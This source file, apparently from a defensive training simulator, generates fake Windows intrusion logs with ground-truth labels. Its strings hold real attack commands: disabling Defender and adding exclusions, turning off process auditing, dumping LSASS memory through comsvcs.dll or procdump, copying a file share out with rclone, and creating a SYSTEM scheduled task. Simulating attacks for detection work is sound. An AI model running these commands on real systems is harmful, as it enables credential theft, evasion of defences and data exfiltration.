// SPDX-License-Identifier: EUPL-1.2
#include <fmt/format.h>

#include <array>

#include "drill/attack/attack.h"
#include "drill/vocabulary/antivirus.h"
#include "drill/vocabulary/powershell.h"
#include "drill/vocabulary/processes.h"
#include "drill/vocabulary/services.h"

namespace beffroi::drill::attack {
namespace {

using namespace world;
using activity::Parent;
using activity::system_program;

constexpr std::string_view kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

Parent open_shell(Attack& attack, const Session& session, Timestamp time) {
  return activity::run(attack.stage, session, system_program("cmd.exe"), time);
}

/// A line of PowerShell, with what PowerShell itself writes about it.
void run_powershell(Attack& attack, const Session& session, const Parent& shell, std::string_view script, bool suspicious,
                    Timestamp time) {
  const std::string command = fmt::format("powershell.exe -nop -ep bypass -c \"{}\"", script);
  activity::run(attack.stage, session, {std::string(kPowerShell), command}, time, shell);
  const std::string guid = attack.random.guid();
  const Host& host = *session.host;
  attack.stage.log(host, time + milliseconds(480), vocabulary::engine_provider_started("Registry", command, guid));
  attack.stage.log(host, time + milliseconds(560), vocabulary::engine_state("Available", "None", command, guid));
  attack.stage.log(host, time + milliseconds(700),
                   vocabulary::script_block(session.account->sid, script, attack.random.guid(), suspicious));
  attack.stage.log(host, time + seconds(3), vocabulary::engine_state("Stopped", "Available", command, guid));
}

std::string dropped(const Attack& attack, std::string_view file) { return fmt::format("{}\\{}", attack.arsenal.folder, file); }

}  // namespace

Timestamp elevate(Attack& attack, Session& session, Timestamp time) {
  const Host& host = *session.host;
  const std::string image = dropped(attack, attack.random.word(6) + ".exe");
  const Parent tool = activity::run(attack.stage, session, {image, fmt::format("{} -i -c cmd.exe", image)}, time);
  activity::run_as_system(attack.stage, host, system_program("cmd.exe"), time + milliseconds(800), tool);
  attack.truth.defence_evasion.push_back({host.computer, "privilege_escalation", image, time});
  session.integrity = vocabulary::Integrity::high;
  return attack.wait(time, 10, 60);
}

Timestamp look_around(Attack& attack, const Session& session, Timestamp time) {
  const Town& town = attack.stage.town();
  const std::string controller = attack.stage.domain_controller().name;
  std::vector<activity::Program> programs = {
      system_program("whoami.exe", "/all"),
      system_program("net.exe", "group \"Admins du domaine\" /domain"),
      system_program("nltest.exe", fmt::format("/dclist:{}", town.netbios)),
      system_program("net.exe", "view /all"),
      system_program("quser.exe"),
      system_program("systeminfo.exe"),
      system_program("ipconfig.exe", "/all"),
      system_program("net.exe", fmt::format("view \\\\{} /all", controller)),
  };
  for (std::size_t last = programs.size(); last > 1; --last) {
    std::swap(programs[last - 1], programs[attack.random.below(static_cast<std::uint32_t>(last))]);
  }
  programs.resize(static_cast<std::size_t>(attack.random.between(4, 8)));
  const Parent shell = open_shell(attack, session, time);
  attack.truth.discovery.push_back({session.host->computer, "commands", programs.front().command_line, time});
  for (const auto& program : programs) {
    time = attack.wait(time, 4, 50);
    activity::run(attack.stage, session, program, time, shell);
  }
  time = attack.wait(time, 30, 240);
  const std::string scanner = dropped(attack, attack.arsenal.scanner);
  activity::run(attack.stage, session, {scanner, fmt::format("\"{}\"", scanner)}, time);
  attack.truth.discovery.push_back({session.host->computer, "network_scan", scanner, time});
  return attack.wait(time, 60, 300);
}

Timestamp blind_antivirus(Attack& attack, const Session& session, Timestamp time) {
  constexpr std::string_view kScript = "Set-MpPreference -DisableRealtimeMonitoring $true";
  constexpr std::string_view kValue =
      "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = ";
  const Host& host = *session.host;
  const Parent shell = open_shell(attack, session, time);
  run_powershell(attack, session, shell, kScript, true, attack.wait(time, 3, 9));
  time = attack.wait(time, 11, 14);
  attack.stage.log(host, time,
                   vocabulary::defender_setting_changed(fmt::format("{}0x0", kValue), fmt::format("{}0x1", kValue)));
  attack.stage.log(host, time + milliseconds(90), vocabulary::real_time_protection_disabled());
  attack.truth.defence_evasion.push_back({host.computer, "antivirus_disabled", std::string(kScript), time});
  if (attack.random.chance(40)) {
    time = attack.wait(time, 5, 30);
    const std::string exclusion = fmt::format("Add-MpPreference -ExclusionPath '{}'", attack.arsenal.folder);
    run_powershell(attack, session, shell, exclusion, true, time);
    const std::string key =
        fmt::format("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\{} = 0x0", attack.arsenal.folder);
    attack.stage.log(host, time + seconds(4), vocabulary::defender_setting_changed("", key));
    attack.truth.defence_evasion.push_back({host.computer, "antivirus_exclusion", exclusion, time});
  }
  return attack.wait(time, 20, 120);
}

Timestamp stop_auditing(Attack& attack, const Session& session, Timestamp time) {
  constexpr std::string_view kProcessCreation = "{0CCE922B-69AE-11D9-BED3-505054503030}";
  constexpr std::uint16_t kProcessStarted = 4688;
  const Host& host = *session.host;
  const Parent shell = open_shell(attack, session, time);
  time = attack.wait(time, 3, 20);
  const std::string arguments = fmt::format("/set /subcategory:\"{}\" /success:disable", kProcessCreation);
  activity::run(attack.stage, session, system_program("auditpol.exe", arguments), time, shell);
  time = time + milliseconds(350);
  attack.stage.log(host, time,
                   vocabulary::audit_removed(vocabulary::machine_itself(host, attack.stage.town()), kProcessCreation));
  attack.stage.silence(host, vocabulary::kSecurityChannel, kProcessStarted, time);
  attack.truth.log_tampering.push_back({host.computer, "Security", "audit_disabled", time});
  return attack.wait(time, 5, 40);
}

Timestamp lose_tool_to_antivirus(Attack& attack, const Session& session, Timestamp time) {
  constexpr std::array<vocabulary::Threat, 3> kThreats = {{{2147705511, "HackTool:Win32/Mimikatz.D", "Outil"},
                                                           {2147778062, "HackTool:Win32/LaZagne", "Outil"},
                                                           {2147729891, "Behavior:Win32/LsassDump.A", "Comportement suspect"}}};
  const vocabulary::Threat& threat = attack.random.pick(kThreats);
  const std::string file = dropped(attack, attack.random.word(5) + ".exe");
  const std::string guid = attack.random.guid();
  const std::string user = session.account->qualified();
  attack.stage.log(*session.host, time, vocabulary::threat_found(threat, file, user, "C:\\Windows\\explorer.exe", guid));
  attack.stage.log(*session.host, time + seconds(4),
                   vocabulary::threat_removed(threat, file, user, "C:\\Windows\\explorer.exe", guid));
  return attack.wait(time, 30, 200);
}

Timestamp steal_credentials(Attack& attack, const Session& session, Timestamp time) {
  const Host& host = *session.host;
  const Parent shell = open_shell(attack, session, time);
  time = attack.wait(time, 4, 20);
  const std::uint32_t lsass = attack.stage.service_process_id(host, "lsass");
  const std::string dump = dropped(attack, attack.random.word(4) + ".dmp");
  activity::Program program;
  switch (attack.random.below(3)) {
    case 0:
      program =
          system_program("rundll32.exe", fmt::format("C:\\windows\\System32\\comsvcs.dll, MiniDump {} {} full", lsass, dump));
      break;
    case 1: {
      const std::string image = dropped(attack, "procdump64.exe");
      program = {image, fmt::format("{} -accepteula -ma lsass.exe {}", image, dump)};
      break;
    }
    default:
      program = system_program("rundll32.exe", fmt::format("C:\\windows\\System32\\comsvcs.dll, #24 {} {} full", lsass, dump));
      break;
  }
  activity::run(attack.stage, session, program, time, shell);
  attack.truth.credential_theft.push_back({host.computer, "lsass_memory", program.command_line, time});
  return attack.wait(time, 120, 900);
}

Timestamp send_data_out(Attack& attack, const Session& session, Timestamp time) {
  const std::string image = dropped(attack, "rclone.exe");
  const std::string remote = attack.random.chance(50) ? "mega" : "remote";
  const std::string command = fmt::format("{} copy \\\\{}\\Commun {}:{} --transfers 12 --max-age 3y -q", image,
                                          attack.stage.town().host(Role::file_server).name, remote, attack.random.word(6));
  activity::run(attack.stage, session, {image, command}, time);
  attack.truth.exfiltration = {"suspected", time, remote};
  return attack.wait(time, 1500, 3600);
}

Timestamp register_task(Attack& attack, const Session& session, Timestamp time) {
  const Host& host = *session.host;
  const std::string name = fmt::format("\\Microsoft\\Windows\\{}", attack.random.word(9));
  const std::string program = dropped(attack, attack.random.word(6) + ".exe");
  const Parent shell = open_shell(attack, session, time);
  time = attack.wait(time, 3, 15);
  activity::run(
      attack.stage, session,
      system_program("schtasks.exe", fmt::format("/create /tn \"{}\" /tr {} /sc onstart /ru SYSTEM /f", name, program)), time,
      shell);
  attack.stage.log(host, time + milliseconds(300),
                   vocabulary::task_creation_audited(session.actor, name, program, "", host.computer));
  attack.stage.log(host, time + milliseconds(310), vocabulary::task_registered(name, session.account->qualified()));
  attack.truth.persistence.push_back({host.computer, "scheduled_task", name, time});
  return attack.wait(time, 20, 90);
}

}  // namespace beffroi::drill::attack
